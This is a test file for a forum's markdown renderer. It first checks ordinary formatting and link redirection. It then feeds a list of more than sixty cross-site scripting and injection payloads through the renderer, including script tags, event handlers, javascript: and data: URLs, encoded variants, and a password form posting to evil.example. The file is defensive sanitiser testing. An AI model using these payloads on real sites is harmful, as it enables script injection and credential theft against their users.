import { type HTMLElement, parse } from 'node-html-parser';
import { describe, expect, it } from 'vitest';
import { renderText } from '../../src/threads/rendering.js';

const LINK = 'rel="nofollow noopener noreferrer"';

describe('rendering what people write', () => {
  it.each([
    ['a paragraph', 'Hello.', '<p>Hello.</p>'],
    ['two paragraphs', 'One.\n\nTwo.', '<p>One.</p>\n<p>Two.</p>'],
    ['a line end', 'One.\nTwo.', '<p>One.<br />\nTwo.</p>'],
    ['words that lean', 'It is *grey* here.', '<p>It is <em>grey</em> here.</p>'],
    ['words that are strong', 'It is **very** grey.', '<p>It is <strong>very</strong> grey.</p>'],
    ['a quote', '> Ana wrote:\n> Hello.', '<blockquote>\n<p>Ana wrote:<br />\nHello.</p>\n</blockquote>'],
    ['a list', '- tea\n- toast', '<ul>\n<li>tea</li>\n<li>toast</li>\n</ul>'],
    ['a list with numbers', '3. tea\n4. toast', '<ol start="3">\n<li>tea</li>\n<li>toast</li>\n</ol>'],
    ['escaped stars', '\\*not leaning\\*', '<p>*not leaning*</p>'],
    ['arithmetic and arrows', '1 < 2 && 3 > 2', '<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>'],
    ['an emoji', '🕯️ for you', '<p>🕯️ for you</p>'],
    ['a snake_case_word', 'my_own_word', '<p>my_own_word</p>'],
  ])('%s', (_, text, html) => {
    expect(renderText(text)).toBe(html);
  });

  it.each([
    ['headings', '# Loud'],
    ['code', '`code` and\n\n    four spaces'],
    ['tables', '| a | b |\n|---|---|\n| 1 | 2 |'],
    ['rules', '---'],
    ['bare addresses', 'https://example.org'],
    ['references', '[a]\n\n[a]: https://example.org'],
  ])('knows no %s: they stay words', (_, text) => {
    expect(tagsIn(renderText(text)).filter((tag) => !['p', 'br'].includes(tag))).toEqual([]);
  });

  it('leads links through the page that says you are leaving', () => {
    expect(renderText('[a](https://example.org/x?y=1&z=2#w)')).toBe(
      `<p><a href="/leaving?to=https%3A%2F%2Fexample.org%2Fx%3Fy%3D1%26z%3D2%23w" ${LINK}>a</a></p>`,
    );
    expect(renderText('<https://example.org>')).toContain(`href="/leaving?to=https%3A%2F%2Fexample.org%2F"`);
  });

  it('shows the words of a link that leads nowhere good', () => {
    expect(renderText('[tea](javascript:alert(1)) and [toast](/sign-out)')).toMatch(/tea.*toast/);
    expect(renderText('[tea](/sign-out)')).toBe('<p>tea</p>');
  });

  it('renders the same text always the same, and the longest without end', () => {
    const long = '> '.repeat(3_000) + '*a '.repeat(1_000);
    expect(renderText(long)).toBe(renderText(long));
  });
});

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p class="help" id="main">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" target=_blank onclick="alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext>',
  '<!-- --><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '</div></main></body><h1>Loud</h1>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '[x](/sign-out)',
  '[x](?next=x)',
  '[x](mailto:a@evil.example)',
  '[x](tel:+15550100)',
  '[x](https://user:secret@evil.example/)',
  '[x](https://evil.example "onmouseover=alert(1)")',
  '[x](https://evil.example/"onmouseover="alert(1))',
  "[x](https://evil.example/'onmouseover='alert(1))",
  '[x](<https://evil.example/ onclick=alert(1)>)',
  '[<img src=x onerror=alert(1)>](https://evil.example)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<https://evil.example/"onclick="alert(1)>',
  '![x](https://evil.example/pixel.gif)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][y]\n\n[y]: https://evil.example/pixel.gif',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '**<b onclick=alert(1)>**',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '999999999. <svg onload=alert(1)>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '＜script＞alert(1)＜/script＞',
  '{{constructor}} {{{html}}} ${7*7} <%= 7*7 %>',
];

const ALLOWED: Record<string, string[]> = {
  p: [],
  br: [],
  em: [],
  strong: [],
  blockquote: [],
  ul: [],
  ol: ['start'],
  li: [],
  a: ['href', 'rel'],
};

describe('rendering what somebody wrote to do harm', () => {
  it('knows more than sixty ways', () => {
    expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(60);
  });

  it.each(HOSTILE)('gives nothing but words and harmless tags: %s', (text) => {
    for (const written of [
      text,
      `Hello ${text} there`,
      `> ${text}`,
      `- *${text}*`,
      `[${text}](https://a.example)`,
    ])
      expectHarmless(renderText(written));
  });

  it('stays harmless when the ways are put together', () => {
    expectHarmless(renderText(HOSTILE.join('\n')));
    expectHarmless(renderText(HOSTILE.join('\n\n')));
    for (const one of HOSTILE)
      for (const two of HOSTILE.slice(0, 12)) expectHarmless(renderText(`${one}${two}`));
  });

  it('stays harmless when rendered twice, as a text that quotes a page', () => {
    for (const text of HOSTILE) expectHarmless(renderText(renderText(text)));
  });
});

function expectHarmless(html: string): void {
  for (const element of elementsOf(html)) {
    const tag = element.rawTagName.toLowerCase();
    expect(Object.keys(ALLOWED)).toContain(tag);
    const attributes = Object.keys(element.attributes);
    expect(attributes.filter((name) => !ALLOWED[tag]?.includes(name))).toEqual([]);
    if (tag === 'a') expectLeaving(element);
  }
}

function expectLeaving(link: HTMLElement): void {
  const url = new URL(link.getAttribute('href') ?? '', 'https://hearthside.example');
  expect([url.origin, url.pathname]).toEqual(['https://hearthside.example', '/leaving']);
  const target = new URL(url.searchParams.get('to') ?? '');
  expect(['http:', 'https:']).toContain(target.protocol);
  expect([target.username, target.password]).toEqual(['', '']);
  expect(link.getAttribute('rel')).toBe('nofollow noopener noreferrer');
}

function elementsOf(html: string): HTMLElement[] {
  return parse(html, { comment: true }).querySelectorAll('*');
}

function tagsIn(html: string): string[] {
  return elementsOf(html).map((element) => element.rawTagName);
}
